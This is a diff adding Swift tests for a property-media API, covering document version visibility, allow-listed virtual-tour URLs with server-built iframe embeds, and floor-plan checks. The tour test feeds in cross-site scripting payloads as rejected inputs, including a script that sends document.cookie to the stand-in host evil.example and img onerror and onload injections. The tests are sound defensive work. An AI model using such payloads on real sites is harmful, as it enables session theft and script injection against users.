@@ -53,6 +53,47 @@ import TestSupport
         }
     }
 
+    /// Issue 11 #10: reading one version listed every version, whatever each one's visibility.
+    @Test func theVersionListShowsOnlyTheVersionsTheCallerMayRead() async throws {
+        try await MediaFixture.run { media in
+            let sponsor = try await media.base.token(.sponsor)
+            let id = try await media.property(sponsor: sponsor)
+            let draft = try await media.raw.upload(
+                "/v1/properties/\(id)/documents?name=Rent%20Roll&visibility=private", MediaSamples.pdf("draft"), token: sponsor
+            )
+            let draftID = try #require(draft.string("id"))
+            let published = try await media.raw.upload(
+                "/v1/properties/\(id)/documents?name=Rent%20Roll&visibility=public", MediaSamples.pdf("final"), token: sponsor
+            )
+            let publishedID = try #require(published.string("id"))
+            #expect(published["version"] == 2)
+
+            // Anyone may read version 2; version 1 stays the sponsor's.
+            let anonymous = try await media.base.client.get("/v1/documents/\(publishedID)/versions")
+            #expect(anonymous.status == 200, "\(anonymous.text)")
+            guard case .array(let anyone)? = anonymous["data"] else { throw Failure("no versions") }
+            #expect(anyone.map { $0["id"] } == [.string(publishedID)])
+            let own = try await media.base.client.get("/v1/documents/\(publishedID)/versions", token: sponsor)
+            guard case .array(let all)? = own["data"] else { throw Failure("no versions") }
+            #expect(all.map { $0["id"] } == [.string(draftID), .string(publishedID)])
+
+            // A user shared version 1 sees it beside the public version 2, and nothing else.
+            let investorID = UUID()
+            let investor = try await media.base.token(.investor, user: investorID)
+            #expect(try await media.base.client.get("/v1/documents/\(draftID)/versions", token: investor).status == 404)
+            let share = try await media.base.client.post(
+                "/v1/documents/\(draftID)/shares", #"{"shared_with": "\#(investorID.uuidString.lowercased())"}"#, token: sponsor
+            )
+            #expect(share.status == 201, "\(share.text)")
+            let shared = try await media.base.client.get("/v1/documents/\(draftID)/versions", token: investor)
+            guard case .array(let seen)? = shared["data"] else { throw Failure("no versions") }
+            #expect(seen.map { $0["id"] } == [.string(draftID), .string(publishedID)])
+            let other = try await media.base.client.get("/v1/documents/\(publishedID)/versions", token: try await media.base.token(.investor))
+            guard case .array(let others)? = other["data"] else { throw Failure("no versions") }
+            #expect(others.map { $0["id"] } == [.string(publishedID)])
+        }
+    }
+
     @Test func linkSharesWorkUntilTheyExpireOrAreRevoked() async throws {
         try await MediaFixture.run { media in
             let sponsor = try await media.base.token(.sponsor)
@@ -197,6 +238,82 @@ import TestSupport
         }
     }
 
+    /// Issue 11 #11: a tour is an allow-listed https URL (or a Matterport id) and the service builds
+    /// the embed; a client's HTML is refused, and HTML stored before is never served.
+    @Test func aTourIsAnAllowedURLAndTheServiceBuildsItsEmbed() async throws {
+        try await MediaFixture.run { media in
+            let sponsor = try await media.base.token(.sponsor)
+            let id = try await media.property(sponsor: sponsor)
+            let path = "/v1/properties/\(id)/virtual-tours"
+            let html = try await media.base.client.post(
+                path, #"{"tour_type":"video","embed_code":"<script>document.location='https://evil.example/?'+document.cookie</script>"}"#, token: sponsor
+            )
+            #expect(html.status == 422)
+            #expect(html.text.contains(#""field":"embed_code""#), "\(html.text)")
+            for url in ["https://evil.example/tour", "http://kuula.co/share/x", "https://kuula.co.evil.example/x", "javascript:alert(1)"] {
+                let refused = try await media.base.client.post(path, #"{"tour_type":"360_photos","tour_url":"\#(url)"}"#, token: sponsor)
+                #expect(refused.status == 422, "\(url)")
+                #expect(refused.text.contains(#""field":"tour_url""#), "\(refused.text)")
+            }
+            let badID = try await media.base.client.post(path, #"{"tour_type":"matterport","matterport_id":"x\" onload=\"alert(1)"}"#, token: sponsor)
+            #expect(badID.status == 422)
+            #expect(badID.text.contains(#""field":"matterport_id""#))
+
+            let kuula = try await media.base.client.post(path, #"{"tour_type":"360_photos","tour_url":"https://kuula.co/share/5Xc?fs=1&vr=0"}"#, token: sponsor)
+            #expect(kuula.status == 201, "\(kuula.text)")
+            #expect(kuula.string("tour_url") == "https://kuula.co/share/5Xc?fs=1&vr=0")
+            #expect(
+                kuula.string("embed_code")
+                    == #"<iframe src="https://kuula.co/share/5Xc?fs=1&amp;vr=0" width="100%" height="480" style="border:0" loading="lazy" referrerpolicy="no-referrer" allow="fullscreen; xr-spatial-tracking" allowfullscreen></iframe>"#
+            )
+            let matterport = try await media.base.client.post(path, #"{"tour_type":"matterport","matterport_id":"SxQL3iGyoDo"}"#, token: sponsor)
+            #expect(matterport.string("embed_code")?.hasPrefix(#"<iframe src="https://my.matterport.com/show/?m=SxQL3iGyoDo""#) == true)
+            let tourID = try #require(kuula.string("id"))
+            #expect(try await media.base.client.send(.PATCH, "\(path)/\(tourID)", json: #"{"embed_code":"<b>x</b>"}"#, token: sponsor).status == 422)
+
+            // A row from before the change, holding a sponsor's HTML and nothing else: readable, HTML unserved.
+            try await media.base.sql(
+                """
+                INSERT INTO media.virtual_tours (id, property_id, tour_type, legacy_embed_code, created_by)
+                VALUES ('\(UUID())', '\(id)', 'video', '<img src=x onerror=alert(1)>', '\(UUID())')
+                """
+            )
+            let listed = try await media.base.client.get(path)
+            #expect(listed.status == 200)
+            #expect(!listed.text.contains("onerror"), "\(listed.text)")
+            #expect(!listed.text.contains("legacy_embed_code"))
+        }
+    }
+
+    /// Issue 11 #20: a tour's floor plan must exist and be one of the same property's.
+    @Test func aTourFloorPlanMustBeOneOfTheProperty() async throws {
+        try await MediaFixture.run { media in
+            let sponsor = try await media.base.token(.sponsor)
+            let id = try await media.property(sponsor: sponsor)
+            let other = try await media.property(sponsor: sponsor)
+            let plan = try await media.base.client.post("/v1/properties/\(id)/floor-plans", #"{"name": "Willow"}"#, token: sponsor)
+            let planID = try #require(plan.string("id"), "\(plan.text)")
+            let otherPlan = try await media.base.client.post("/v1/properties/\(other)/floor-plans", #"{"name": "Aspen"}"#, token: sponsor)
+            let otherPlanID = try #require(otherPlan.string("id"), "\(otherPlan.text)")
+            let path = "/v1/properties/\(id)/virtual-tours"
+            func tour(_ floorPlan: String) -> String {
+                #"{"tour_type":"matterport","matterport_id":"SxQL3iGyoDo","floor_plan_id":"\#(floorPlan)"}"#
+            }
+            for missing in [UUID().uuidString.lowercased(), otherPlanID] {
+                let refused = try await media.base.client.post(path, tour(missing), token: sponsor)
+                #expect(refused.status == 422, "\(refused.text)")
+                #expect(refused.text.contains(#""field":"floor_plan_id""#))
+            }
+            let created = try await media.base.client.post(path, tour(planID), token: sponsor)
+            #expect(created.status == 201, "\(created.text)")
+            #expect(created.string("floor_plan_id") == planID)
+            let tourID = try #require(created.string("id"))
+            let moved = try await media.base.client.send(.PATCH, "\(path)/\(tourID)", json: #"{"floor_plan_id":"\#(otherPlanID)"}"#, token: sponsor)
+            #expect(moved.status == 422)
+            #expect(try await media.base.sql("SELECT count(*)::text FROM media.virtual_tours WHERE floor_plan_id = '\(otherPlanID)'") == ["0"])
+        }
+    }
+
     @Test func everyMediaAnswerIsOneTheOpenAPIDocumentDescribes() async throws {
         try await MediaFixture.run { media in
             let document = try await media.base.client.get("/openapi.json").json
@@ -249,7 +366,7 @@ import TestSupport
             record("POST", "/v1/properties/{id}/videos", video)
             record("GET", "/v1/properties/{id}/videos", try await media.base.client.get("/v1/properties/\(id)/videos"))
             record("PATCH", "/v1/properties/{id}/videos/{item_id}", try await media.base.client.send(.PATCH, "/v1/properties/\(id)/videos/\(try #require(video.string("id")))", json: #"{"title":"t"}"#, token: sponsor))
-            let tour = try await media.base.client.post("/v1/properties/\(id)/virtual-tours", #"{"tour_type":"360_photos","tour_url":"https://t.example/1"}"#, token: sponsor)
+            let tour = try await media.base.client.post("/v1/properties/\(id)/virtual-tours", #"{"tour_type":"360_photos","tour_url":"https://kuula.co/share/collection/7Fk9Q"}"#, token: sponsor)
             record("POST", "/v1/properties/{id}/virtual-tours", tour)
             record("GET", "/v1/properties/{id}/virtual-tours", try await media.base.client.get("/v1/properties/\(id)/virtual-tours"))
             record("DELETE", "/v1/properties/{id}/virtual-tours/{item_id}", try await media.base.client.send(.DELETE, "/v1/properties/\(id)/virtual-tours/\(try #require(tour.string("id")))", token: sponsor))
@@ -261,6 +378,19 @@ import TestSupport
             for (method, path, status, contentType, body) in exchanges {
                 let found = OpenAPIConformance.problems(in: document, method: method, path: path, status: status, contentType: contentType, body: body)
                 #expect(found.isEmpty, "\(found)")
+            }
+            // Issue 11 #18: videos' and tours' unset fields are null, which their schemas must allow.
+            let fullTour = try await media.base.client.post(
+                "/v1/properties/\(id)/virtual-tours", #"{"tour_type":"matterport","matterport_id":"SxQL3iGyoDo"}"#, token: sponsor
+            )
+            exchanges.append(("POST", "/v1/properties/{id}/virtual-tours", fullTour.status, "", fullTour.text))
+            exchanges.append(("GET", "/v1/properties/{id}/videos", 200, "", try await media.base.client.get("/v1/properties/\(id)/videos").text))
+            exchanges.append(("GET", "/v1/properties/{id}/virtual-tours", 200, "", try await media.base.client.get("/v1/properties/\(id)/virtual-tours").text))
+            for (method, path, status, _, body) in exchanges where path.contains("/videos") || path.contains("/virtual-tours") {
+                guard let schema = OpenAPIConformance.responseSchema(in: document, method: method, path: path, status: status) else { continue }
+                let value = try JSONDecoder().decode(JSONValue.self, from: Data(body.utf8))
+                let found = OpenAPIConformance.schemaProblems(value, against: schema, in: document)
+                #expect(found.isEmpty, "\(method) \(path) \(status): \(found)")
             }
         }
     }
